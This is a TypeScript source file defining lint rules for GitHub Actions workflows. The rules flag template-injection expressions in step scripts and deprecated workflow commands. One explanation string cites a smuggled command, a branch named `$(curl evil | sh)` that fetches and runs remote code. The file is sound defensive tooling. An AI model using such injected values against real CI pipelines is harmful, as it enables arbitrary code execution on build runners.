import type { Node } from 'yaml';
import { listSteps } from '../parts.ts';
import { everywhere, type Rule } from '../rule.ts';
import { findInScalar, findValue, readString, type Source } from '../source.ts';

/** What of a step becomes code, by path of keys. `script` is code only for actions/github-script. */
const code = [['run'], ['shell'], ['with', 'script']] as const;

function listCode(source: Source): { node: Node; name: string }[] {
  return listSteps(source).flatMap((step) => {
    const runsScript = readString(findValue(source, ['uses'], step))?.startsWith('actions/github-script@') ?? false;
    return code.flatMap((path) => {
      const name = path.join('.');
      const node = findValue(source, path, step);
      return readString(node) !== undefined && (name !== 'with.script' || runsScript)
        ? [{ node: node as Node, name }]
        : [];
    });
  });
}

/** What stands in the scripts of steps. */
export const scripts: readonly Rule[] = [
  {
    id: 'no-expression-in-code',
    appliesTo: everywhere,
    why: 'the value becomes part of the code: a branch named `$(curl evil | sh)` runs',
    source: 'zizmor template-injection; GitHub Security Lab, untrusted input',
    cure: 'pass the value through `env:` and read the variable, in quotes',
    *check(source) {
      for (const { node, name } of listCode(source)) {
        for (const { offset } of findInScalar(source, node, /\$\{\{/g)) {
          yield { at: offset, message: `${name} contains an expression` };
        }
      }
    },
  },
  {
    id: 'no-deprecated-command',
    appliesTo: everywhere,
    why: 'runners print a warning today and ignore the command tomorrow',
    source: 'GitHub changelog 2022-10-11 (set-output, save-state) and 2020-10-01 (set-env, add-path)',
    cure: 'append to the file that $GITHUB_OUTPUT, $GITHUB_STATE, $GITHUB_ENV or $GITHUB_PATH names',
    *check(source) {
      for (const { node } of listCode(source)) {
        for (const { offset, match } of findInScalar(source, node, /::(set-output|save-state|set-env|add-path)\b/g)) {
          yield { at: offset, message: `${match} is deprecated` };
        }
      }
    },
  },
];
